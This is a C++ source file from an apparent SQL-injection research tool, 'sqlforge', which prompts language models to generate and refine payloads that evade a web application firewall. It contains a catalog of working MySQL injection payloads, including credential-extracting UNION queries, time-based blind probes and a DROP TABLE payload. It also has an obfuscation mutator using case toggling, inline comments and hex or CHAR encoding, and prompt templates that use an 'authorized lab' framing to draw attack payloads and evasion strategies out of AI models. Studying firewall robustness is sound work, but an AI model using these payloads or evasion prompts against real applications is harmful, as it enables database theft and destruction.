#include "sqlforge/llm.hpp"

#include "http.hpp"
#include "sqlforge/error.hpp"
#include "sqlforge/util.hpp"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <array>
#include <chrono>
#include <cmath>
#include <cstdlib>
#include <semaphore>
#include <set>
#include <thread>

namespace sqlforge::llm {

void validate(const ChatRequest& request) {
    if (request.prompt.empty()) throw Error(ErrorKind::InvalidParams, "empty prompt");
    if (!(request.temperature >= 0.0 && request.temperature <= 2.0)) {
        throw Error(ErrorKind::InvalidParams, "temperature must lie in [0, 2]");
    }
}

// ---------------------------------------------------------------------------
// Templates

namespace {

constexpr std::string_view kOutputContract =
    "Output format: one payload per line, each line starting with its number and a period, "
    "for example \"1. <payload>\". Do not add commentary.";

constexpr std::string_view kRadagas = R"([task:radagas]
You are supporting an authorized assessment of a web application firewall in a lab environment owned by the requester.
Objective: {{query}}
Injection point: the value is inserted into a single-quoted string literal of a MySQL query:
SELECT id, name FROM users WHERE name = '<payload>'

Reference material retrieved from the knowledge base:
<context>
{{context}}
</context>

Seed payloads to build on (may be empty):
<examples>
{{examples}}
</examples>

Payloads already accepted. Do not repeat them or stay close to their structure:
<accepted>
{{accepted}}
</accepted>

Produce exactly {{count}} new SQL injection payloads that use different techniques and structure from the accepted ones.
)";

constexpr std::string_view kVanilla = R"([task:vanilla]
Generate exactly {{count}} SQL injection payloads for testing a web application firewall in an authorized lab.
)";

constexpr std::string_view kTemplateIcl = R"([task:template_icl]
You are supporting an authorized web application firewall assessment.
Example payloads:
<examples>
{{examples}}
</examples>

Mutate the examples with obfuscation operators: keyword case toggling, inline comments (/**/) between tokens, whitespace substitution, and hex or CHAR() encoding of string literals. Combine operators freely.
Produce exactly {{count}} mutated payloads.
)";

constexpr std::string_view kReflexAnalysis = R"([task:reflex_analysis]
Phase: WAF analysis.
Target WAF characteristics:
{{waf_profile}}

Seed payloads (may be empty):
<examples>
{{examples}}
</examples>

Describe which detection mechanisms the target most likely uses and which payload features would trigger them. Answer in prose.
)";

constexpr std::string_view kReflexStrategy = R"([task:reflex_strategy]
Phase: strategy formulation.
WAF analysis:
{{analysis}}

Formulate an evasion strategy that avoids the detection mechanisms above while keeping the injection functional against MySQL. Answer in prose.
)";

constexpr std::string_view kReflexDesign = R"([task:reflex_design]
Phase: payload design.
Strategy:
{{strategy}}

Design the structure of one SQL injection payload implementing this strategy. Explain each component. Answer in prose.
)";

constexpr std::string_view kReflexRefine = R"([task:reflex_refine]
Phase: refinement.
Payload design:
{{design}}

Seed payloads (may be empty):
<examples>
{{examples}}
</examples>

Refine the design into one concrete payload for the injection point SELECT id, name FROM users WHERE name = '<payload>'. Explain the refinement, then give the payload on its own line as "1. <payload>".
)";

constexpr std::string_view kDiscriminator = R"([task:discriminator]
You are a web application firewall detection expert.
Target WAF characteristics:
{{waf_profile}}

Rate how likely the following payload is to be detected, from 0 (undetectable) to 10 (certainly detected). Start your answer with the number.
<payload>
{{payload}}
</payload>
)";

std::string with_contract(std::string_view body) { return std::string(body) + std::string(kOutputContract) + "\n"; }

const std::array<PromptTemplate, 8>& templates() {
    static const std::string radagas = with_contract(kRadagas);
    static const std::string vanilla = with_contract(kVanilla);
    static const std::string icl = with_contract(kTemplateIcl);
    static const std::array<PromptTemplate, 8> table = {{
        {TemplateId::radagas, radagas},
        {TemplateId::vanilla_zero_shot, vanilla},
        {TemplateId::template_icl, icl},
        {TemplateId::reflex_analysis, kReflexAnalysis},
        {TemplateId::reflex_strategy, kReflexStrategy},
        {TemplateId::reflex_design, kReflexDesign},
        {TemplateId::reflex_refine, kReflexRefine},
        {TemplateId::discriminator_score, kDiscriminator},
    }};
    return table;
}

constexpr std::array<TemplateId, 8> kAllTemplates = {
    TemplateId::radagas,         TemplateId::vanilla_zero_shot, TemplateId::template_icl,
    TemplateId::reflex_analysis, TemplateId::reflex_strategy,   TemplateId::reflex_design,
    TemplateId::reflex_refine,   TemplateId::discriminator_score};

bool is_name_char(char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '_'; }

}  // namespace

std::string_view to_string(TemplateId id) {
    switch (id) {
        case TemplateId::radagas: return "radagas";
        case TemplateId::vanilla_zero_shot: return "vanilla_zero_shot";
        case TemplateId::template_icl: return "template_icl";
        case TemplateId::reflex_analysis: return "reflex_analysis";
        case TemplateId::reflex_strategy: return "reflex_strategy";
        case TemplateId::reflex_design: return "reflex_design";
        case TemplateId::reflex_refine: return "reflex_refine";
        case TemplateId::discriminator_score: return "discriminator_score";
    }
    return "?";
}

std::optional<TemplateId> template_from_string(std::string_view name) {
    for (TemplateId id : kAllTemplates) {
        if (to_string(id) == name) return id;
    }
    return std::nullopt;
}

std::span<const TemplateId> all_templates() { return kAllTemplates; }

const PromptTemplate& prompt_template(TemplateId id) {
    for (const auto& t : templates()) {
        if (t.id == id) return t;
    }
    throw Error(ErrorKind::TemplateError, "unknown template");
}

std::vector<std::string> placeholders(std::string_view body) {
    std::vector<std::string> out;
    std::size_t i = 0;
    while ((i = body.find("{{", i)) != std::string_view::npos) {
        const auto end = body.find("}}", i + 2);
        if (end == std::string_view::npos) break;
        const std::string_view name = body.substr(i + 2, end - i - 2);
        if (!name.empty() && std::all_of(name.begin(), name.end(), is_name_char)) {
            if (std::find(out.begin(), out.end(), name) == out.end()) out.emplace_back(name);
            i = end + 2;
        } else {
            i += 2;
        }
    }
    return out;
}

std::string render(std::string_view body, const Bindings& bindings) {
    std::string out;
    std::vector<std::string> missing;
    std::size_t i = 0;
    while (i < body.size()) {
        const auto open = body.find("{{", i);
        if (open == std::string_view::npos) {
            out.append(body.substr(i));
            break;
        }
        out.append(body.substr(i, open - i));
        const auto end = body.find("}}", open + 2);
        const std::string_view name =
            end == std::string_view::npos ? std::string_view{} : body.substr(open + 2, end - open - 2);
        if (name.empty() || !std::all_of(name.begin(), name.end(), is_name_char)) {
            out.append("{{");
            i = open + 2;
            continue;
        }
        if (auto it = bindings.find(name); it != bindings.end()) {
            out.append(it->second);
        } else if (std::find(missing.begin(), missing.end(), name) == missing.end()) {
            missing.emplace_back(name);
        }
        i = end + 2;
    }
    if (!missing.empty()) {
        std::string names;
        for (const auto& m : missing) names += (names.empty() ? "" : ", ") + m;
        throw Error(ErrorKind::TemplateError, "unbound placeholders: " + names);
    }
    return out;
}

std::string render_prompt(TemplateId id, const Bindings& bindings) {
    return render(prompt_template(id).body, bindings);
}

std::string bullet_list(std::span<const std::string> items) {
    std::string out;
    for (const auto& item : items) out += "- " + item + "\n";
    if (!out.empty()) out.pop_back();
    return out;
}

// ---------------------------------------------------------------------------
// Extraction

namespace {

std::optional<std::string> numbered_line(std::string_view line) {
    const std::string t = trim(line);
    std::size_t i = 0;
    while (i < t.size() && std::isdigit(static_cast<unsigned char>(t[i]))) ++i;
    if (i == 0 || i > 6 || i >= t.size() || (t[i] != '.' && t[i] != ')')) return std::nullopt;
    return trim(std::string_view(t).substr(i + 1));
}

}  // namespace

std::vector<std::string> extract_payloads(std::string_view text) {
    std::vector<std::string> out;
    bool fenced = false;
    for (const auto& line : split_lines(text)) {
        const std::string t = trim(line);
        if (t.rfind("```", 0) == 0) {
            fenced = !fenced;
            continue;
        }
        if (auto p = numbered_line(t)) {
            if (!p->empty()) out.push_back(std::move(*p));
        } else if (fenced && !t.empty()) {
            out.push_back(t);
        }
    }
    return out;
}

std::string format_numbered(std::span<const std::string> payloads) {
    std::string out;
    for (std::size_t i = 0; i < payloads.size(); ++i) out += std::to_string(i + 1) + ". " + payloads[i] + "\n";
    return out;
}

// ---------------------------------------------------------------------------
// Mock provider

namespace {

constexpr std::array<std::string_view, 43> kCatalog = {
    "' OR 1=1-- -",
    "' OR '1'='1",
    "' OR 'a'='a' -- -",
    "admin'-- -",
    "' OR 1=1#",
    "' UNION SELECT NULL-- -",
    "' UNION SELECT NULL,NULL-- -",
    "' UNION SELECT name, password FROM users-- -",
    "' UNION ALL SELECT table_name, NULL FROM information_schema.tables-- -",
    "' UNION SELECT column_name, table_name FROM information_schema.columns WHERE table_schema=database()-- -",
    "' UNION SELECT @@version, user()-- -",
    "' AND 1=1-- -",
    "' AND 1=2-- -",
    "' AND SUBSTRING(version(),1,1)='8'-- -",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
    "' AND (SELECT COUNT(*) FROM users)>0-- -",
    "' AND LENGTH(database())>3-- -",
    "' AND SLEEP(5)-- -",
    "' OR SLEEP(5)#",
    "' AND IF(1=1,SLEEP(3),0)-- -",
    "' AND BENCHMARK(5000000,MD5('a'))-- -",
    "' AND (SELECT 1 FROM (SELECT SLEEP(4))x)-- -",
    "' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- -",
    "' AND UPDATEXML(1,CONCAT(0x7e,user()),1)-- -",
    "' AND EXP(~(SELECT * FROM (SELECT user())a))-- -",
    "' OR 1=1 ORDER BY 1-- -",
    "' ORDER BY 3-- -",
    "' GROUP BY name HAVING 1=1-- -",
    "'; DROP TABLE users-- -",
    "'; SELECT SLEEP(5)-- -",
    "' OR 'x' LIKE 'x",
    "' || '1'='1",
    "' OR 1 IN (1,2)-- -",
    "' OR 2 BETWEEN 1 AND 3-- -",
    "'/**/OR/**/1=1-- -",
    "' /*!50000UNION*/ /*!50000SELECT*/ 1,2-- -",
    "' OR 0x61=0x61-- -",
    "' OR CHAR(97)='a'-- -",
    "' OR NOT 1=2-- -",
    "' AND MID(user(),1,3)='app'-- -",
    "' OR EXISTS(SELECT 1 FROM users)-- -",
    "' WAITFOR DELAY '0:0:5'-- -",
    "' OR pg_sleep(5)-- -",
};

constexpr std::array<std::string_view, 24> kSignatures = {
    "' or", " or ", "1=1", "--", "#", "/*", "union", "select", "sleep(", "benchmark(", "information_schema",
    "concat(", "char(", "0x", "waitfor", "@@version", "extractvalue(", "updatexml(", "order by", "having",
    "' and", ";", "load_file", "into outfile",
};

std::string task_tag(std::string_view prompt) {
    const std::string t = trim(prompt.substr(0, 64));
    if (t.rfind("[task:", 0) != 0) return "";
    const auto end = t.find(']');
    return end == std::string::npos ? "" : t.substr(6, end - 6);
}

std::string_view block(std::string_view prompt, std::string_view name) {
    const std::string open = "<" + std::string(name) + ">";
    const std::string close = "</" + std::string(name) + ">";
    const auto a = prompt.find(open);
    if (a == std::string_view::npos) return {};
    const auto b = prompt.find(close, a + open.size());
    if (b == std::string_view::npos) return {};
    return prompt.substr(a + open.size(), b - a - open.size());
}

std::vector<std::string> block_items(std::string_view body) {
    std::vector<std::string> out;
    for (const auto& line : split_lines(body)) {
        std::string t = trim(line);
        if (t.rfind("- ", 0) == 0) t = trim(std::string_view(t).substr(2));
        if (!t.empty() && t != "(none)") out.push_back(std::move(t));
    }
    return out;
}

std::size_t requested_count(std::string_view prompt) {
    const auto at = prompt.find("exactly ");
    if (at == std::string_view::npos) return 1;
    std::size_t i = at + 8;
    std::size_t n = 0;
    bool any = false;
    while (i < prompt.size() && std::isdigit(static_cast<unsigned char>(prompt[i]))) {
        n = n * 10 + static_cast<std::size_t>(prompt[i] - '0');
        any = true;
        ++i;
        if (n > 50) break;
    }
    return any ? std::clamp<std::size_t>(n, 1, 50) : 1;
}

std::string prose(Rng& rng, std::span<const std::string_view> pool, std::size_t sentences) {
    std::string out;
    for (std::size_t i = 0; i < sentences; ++i) {
        if (!out.empty()) out += ' ';
        out += pool[rng.below(pool.size())];
    }
    return out;
}

constexpr std::array<std::string_view, 8> kAnalysisPool = {
    "The target appears to match classic tautologies and UNION SELECT sequences.",
    "Comment sequences at the end of the input are a likely trigger.",
    "Time-based functions such as SLEEP are probably flagged by name.",
    "Quote characters followed by boolean keywords look like a high-confidence signature.",
    "Access to information_schema is likely monitored.",
    "Encoded literals may be decoded before inspection.",
    "The detector probably normalizes case before matching.",
    "Inline comments between keywords may break naive token matching.",
};

constexpr std::array<std::string_view, 8> kStrategyPool = {
    "Prefer arithmetic comparisons over literal tautologies.",
    "Split keywords with inline comments.",
    "Replace string literals with hex encoding.",
    "Use conditional expressions instead of direct boolean operators.",
    "Avoid trailing comment markers by balancing the closing quote.",
    "Substitute spaces with alternative whitespace.",
    "Use less common functions that reach the same effect.",
    "Nest the condition inside a subquery.",
};

constexpr std::array<std::string_view, 6> kDesignPool = {
    "Break out of the string literal with a single quote.",
    "Add a condition that evaluates to true for every row.",
    "Keep the query syntactically valid by closing the literal.",
    "Wrap the core predicate in parentheses.",
    "Place the obfuscation on the keywords most likely to be matched.",
    "Keep the payload short to reduce the number of matched features.",
};

std::vector<std::string> candidate_bases(std::string_view prompt) {
    auto ex = block_items(block(prompt, "examples"));
    if (!ex.empty()) return ex;
    return {};
}

std::string pick_base(Rng& rng, const std::vector<std::string>& bases) {
    if (!bases.empty()) return bases[rng.below(bases.size())];
    return std::string(kCatalog[rng.below(kCatalog.size())]);
}

std::string encode_literal(std::string_view content, bool as_char) {
    if (as_char) {
        std::string out = "CHAR(";
        for (std::size_t i = 0; i < content.size(); ++i) {
            if (i) out += ',';
            out += std::to_string(static_cast<unsigned char>(content[i]));
        }
        return out + ")";
    }
    std::string out = "0x";
    static const char* digits = "0123456789abcdef";
    for (unsigned char c : content) {
        out += digits[c >> 4];
        out += digits[c & 15];
    }
    return out;
}

std::vector<std::size_t> positions_of(std::string_view s, char c) {
    std::vector<std::size_t> out;
    for (std::size_t i = 0; i < s.size(); ++i) {
        if (s[i] == c) out.push_back(i);
    }
    return out;
}

void apply_operator(std::string& s, Rng& rng) {
    switch (rng.below(4)) {
        case 0:  // keyword case toggling
            for (char& c : s) {
                if (std::isalpha(static_cast<unsigned char>(c)) && rng.below(2) == 0) {
                    c = std::isupper(static_cast<unsigned char>(c)) ? static_cast<char>(std::tolower(c))
                                                                    : static_cast<char>(std::toupper(c));
                }
            }
            break;
        case 1: {  // inline comment for a space
            const auto spaces = positions_of(s, ' ');
            if (spaces.empty()) break;
            const auto at = spaces[rng.below(spaces.size())];
            s.replace(at, 1, "/**/");
            break;
        }
        case 2: {  // whitespace substitution
            const auto spaces = positions_of(s, ' ');
            if (spaces.empty()) break;
            const auto at = spaces[rng.below(spaces.size())];
            s.replace(at, 1, rng.below(2) == 0 ? "\t" : "  ");
            break;
        }
        default: {  // encode a quoted literal after the break-out quote
            std::vector<std::pair<std::size_t, std::size_t>> literals;
            const auto quotes = positions_of(s, '\'');
            for (std::size_t q = 0; q + 1 < quotes.size(); ++q) {
                if (quotes[q] == 0) continue;
                if (quotes[q + 1] > quotes[q] + 1) literals.emplace_back(quotes[q], quotes[q + 1]);
                ++q;
            }
            if (literals.empty()) break;
            const auto [a, b] = literals[rng.below(literals.size())];
            s.replace(a, b - a + 1, encode_literal(std::string_view(s).substr(a + 1, b - a - 1), rng.below(2) == 0));
            break;
        }
    }
}

std::string truncate(std::string s, std::size_t limit) {
    if (limit > 0 && s.size() > limit) s.resize(limit);
    return s;
}

}  // namespace

MockProvider::MockProvider(std::string id, MockOptions options) : id_(std::move(id)), options_(options) {}

std::span<const std::string_view> MockProvider::catalog() { return kCatalog; }
std::span<const std::string_view> MockProvider::signatures() { return kSignatures; }

int MockProvider::signature_score(std::string_view payload) {
    const std::string lower = to_lower(payload);
    int hits = 0;
    for (auto sig : kSignatures) {
        if (lower.find(sig) != std::string::npos) ++hits;
    }
    return std::min(hits, 10);
}

std::string MockProvider::mutate(std::string_view base, double temperature, std::uint64_t seed, int* applied) {
    Rng rng(seed);
    const double scaled = 3.0 * std::max(0.0, temperature);
    int ops = static_cast<int>(std::floor(scaled));
    const double frac = scaled - std::floor(scaled);
    if (frac > 0.0 && rng.uniform() < frac) ++ops;
    std::string s(base);
    for (int i = 0; i < ops; ++i) apply_operator(s, rng);
    if (applied) *applied = ops;
    return s;
}

ChatOutcome MockProvider::complete(const ChatRequest& request) const {
    validate(request);
    if (options_.refuse_all) return Refusal{id_, "I can't help with that request."};

    const auto quantized = static_cast<std::uint64_t>(std::llround(request.temperature * 100.0));
    const std::uint64_t key =
        mix64(options_.seed ^ mix64(request.seed ^ mix64(fnv1a64(request.prompt) ^ mix64(quantized))));
    Rng rng(key);
    const std::string tag = task_tag(request.prompt);
    std::string text;

    if (tag == "discriminator") {
        const std::string payload = trim(block(request.prompt, "payload"));
        const int score = options_.fixed_discriminator_score.value_or(signature_score(payload));
        text = std::to_string(score) + "\nThe payload matches " + std::to_string(signature_score(payload)) +
               " known detection signatures.";
    } else if (tag == "reflex_analysis") {
        text = "Analysis: " + prose(rng, kAnalysisPool, 3);
    } else if (tag == "reflex_strategy") {
        text = "Strategy: " + prose(rng, kStrategyPool, 3);
    } else if (tag == "reflex_design") {
        text = "Design: " + prose(rng, kDesignPool, 3);
    } else if (tag == "reflex_refine") {
        const std::string payload = mutate(pick_base(rng, candidate_bases(request.prompt)), request.temperature,
                                           rng.next());
        text = "Refinement: " + prose(rng, kStrategyPool, 2) + "\n1. " + payload;
    } else {
        // Payload lists: tagged generation prompts and free-form refinement
        // prompts. Seeds in an <examples> block, or numbered payloads in the
        // prompt itself, replace the built-in catalog as mutation bases.
        auto bases = candidate_bases(request.prompt);
        if (bases.empty() && tag.empty()) bases = extract_payloads(request.prompt);
        const std::size_t count = requested_count(request.prompt);
        std::vector<std::string> payloads;
        for (std::size_t i = 0; i < count; ++i) {
            std::string p = mutate(pick_base(rng, bases), request.temperature, rng.next());
            if (trim(p).empty()) p = std::string(kCatalog[0]);
            payloads.push_back(trim(p));
        }
        text = "Here are the payloads:\n" + format_numbered(payloads);
    }
    return ChatResponse{truncate(std::move(text), request.max_output_chars), id_, 0};
}

// ---------------------------------------------------------------------------
// HTTP provider

struct HttpChatProvider::Gate {
    explicit Gate(std::size_t n) : slots(static_cast<std::ptrdiff_t>(std::max<std::size_t>(1, n))) {}
    std::counting_semaphore<4096> slots;
};

HttpChatProvider::HttpChatProvider(HttpProviderConfig config)
    : config_(std::move(config)), gate_(std::make_unique<Gate>(config_.max_in_flight)) {
    detail::parse_url(config_.endpoint);
}

HttpChatProvider::~HttpChatProvider() = default;

ChatOutcome HttpChatProvider::complete(const ChatRequest& request) const {
    validate(request);
    nlohmann::json body = {
        {"model", config_.model},
        {"messages", nlohmann::json::array({{{"role", "user"}, {"content", request.prompt}}})},
        {"temperature", request.temperature},
    };
    detail::HttpRequest req;
    req.method = "POST";
    req.url = config_.endpoint;
    req.body = body.dump();
    req.timeout_ms = config_.timeout_ms;
    if (!config_.auth_env.empty()) {
        if (const char* token = std::getenv(config_.auth_env.c_str())) {
            req.headers.emplace_back("Authorization", std::string("Bearer ") + token);
        }
    }

    std::string last_error;
    int backoff = config_.backoff_initial_ms;
    for (int attempt = 1; attempt <= std::max(1, config_.max_attempts); ++attempt) {
        if (attempt > 1) {
            std::this_thread::sleep_for(std::chrono::milliseconds(backoff));
            backoff *= 2;
        }
        const auto start = std::chrono::steady_clock::now();
        gate_->slots.acquire();
        detail::HttpResponse resp;
        try {
            resp = detail::http_send(req);
        } catch (...) {
            gate_->slots.release();
            throw;
        }
        gate_->slots.release();
        const auto latency =
            std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start).count();

        if (resp.status == 0) {
            last_error = "network: " + resp.error;
            continue;
        }
        if (resp.status == 429 || resp.status >= 500) {
            last_error = "http " + std::to_string(resp.status);
            continue;
        }
        if (resp.status >= 400) {
            throw Error(ErrorKind::ProviderError,
                        config_.id + ": http " + std::to_string(resp.status) + ": " + resp.body.substr(0, 200));
        }
        nlohmann::json doc = nlohmann::json::parse(resp.body, nullptr, false);
        if (doc.is_discarded() || !doc.contains("choices") || !doc["choices"].is_array() || doc["choices"].empty()) {
            throw Error(ErrorKind::ProviderError, config_.id + ": malformed completion response");
        }
        const auto& choice = doc["choices"][0];
        const auto& message = choice.value("message", nlohmann::json::object());
        if (choice.value("finish_reason", "") == "content_filter") {
            return Refusal{config_.id, "content_filter"};
        }
        if (message.contains("refusal") && message["refusal"].is_string()) {
            return Refusal{config_.id, message["refusal"].get<std::string>()};
        }
        std::string text = message.contains("content") && message["content"].is_string()
                               ? message["content"].get<std::string>()
                               : "";
        if (trim(text).empty()) return Refusal{config_.id, "empty completion"};
        return ChatResponse{truncate(std::move(text), request.max_output_chars), config_.id, latency};
    }
    throw Error(ErrorKind::ProviderError, config_.id + ": giving up after retries: " + last_error);
}

// ---------------------------------------------------------------------------
// Configuration and registry

std::vector<ProviderConfig> parse_provider_configs(std::string_view json_text) {
    nlohmann::json doc = nlohmann::json::parse(json_text, nullptr, false);
    if (doc.is_discarded() || !doc.is_object()) throw Error(ErrorKind::ConfigError, "provider config is not a JSON object");
    for (const auto& [k, v] : doc.items()) {
        if (k != "providers") throw Error(ErrorKind::ConfigError, "unknown key in provider config: " + k);
    }
    if (!doc.contains("providers") || !doc["providers"].is_array()) {
        throw Error(ErrorKind::ConfigError, "provider config needs a \"providers\" array");
    }
    static const std::set<std::string> allowed = {"id", "kind", "endpoint", "model", "auth_env",
                                                  "max_in_flight", "timeout_ms", "seed"};
    std::vector<ProviderConfig> out;
    for (const auto& p : doc["providers"]) {
        if (!p.is_object()) throw Error(ErrorKind::ConfigError, "provider entry must be an object");
        for (const auto& [k, v] : p.items()) {
            if (k == "api_key" || k == "token" || k == "password") {
                throw Error(ErrorKind::ConfigError, "credentials must come from an environment variable (auth_env)");
            }
            if (!allowed.count(k)) throw Error(ErrorKind::ConfigError, "unknown provider key: " + k);
        }
        try {
            ProviderConfig c;
            c.id = p.at("id").get<std::string>();
            c.kind = p.at("kind").get<std::string>();
            c.endpoint = p.value("endpoint", "");
            c.model = p.value("model", "");
            c.auth_env = p.value("auth_env", "");
            c.max_in_flight = p.value("max_in_flight", std::size_t{4});
            c.timeout_ms = p.value("timeout_ms", 60000);
            c.seed = p.value("seed", std::uint64_t{0});
            if (c.kind != "mock" && c.kind != "openai") {
                throw Error(ErrorKind::ConfigError, "provider kind must be mock or openai: " + c.kind);
            }
            if (c.kind == "openai" && (c.endpoint.empty() || c.model.empty())) {
                throw Error(ErrorKind::ConfigError, "provider " + c.id + " needs endpoint and model");
            }
            out.push_back(std::move(c));
        } catch (const nlohmann::json::exception& e) {
            throw Error(ErrorKind::ConfigError, std::string("provider config: ") + e.what());
        }
    }
    return out;
}

std::shared_ptr<ChatProvider> make_provider(const ProviderConfig& c) {
    if (c.kind == "mock") return std::make_shared<MockProvider>(c.id, MockOptions{c.seed, std::nullopt, false});
    HttpProviderConfig h;
    h.id = c.id;
    h.endpoint = c.endpoint;
    h.model = c.model;
    h.auth_env = c.auth_env;
    h.max_in_flight = c.max_in_flight;
    h.timeout_ms = c.timeout_ms;
    return std::make_shared<HttpChatProvider>(std::move(h));
}

void ProviderRegistry::add(std::shared_ptr<ChatProvider> provider) {
    const std::string id = provider->id();
    providers_[id] = std::move(provider);
}

std::shared_ptr<ChatProvider> ProviderRegistry::get(std::string_view id) const {
    auto it = providers_.find(id);
    if (it == providers_.end()) throw Error(ErrorKind::ConfigError, "unknown provider: " + std::string(id));
    return it->second;
}

bool ProviderRegistry::contains(std::string_view id) const { return providers_.find(id) != providers_.end(); }

std::vector<std::string> ProviderRegistry::ids() const {
    std::vector<std::string> out;
    for (const auto& [k, v] : providers_) out.push_back(k);
    return out;
}

ChatOutcome complete(const ProviderRegistry& registry, const ChatRequest& request) {
    validate(request);
    return registry.get(request.provider_id)->complete(request);
}

}  // namespace sqlforge::llm
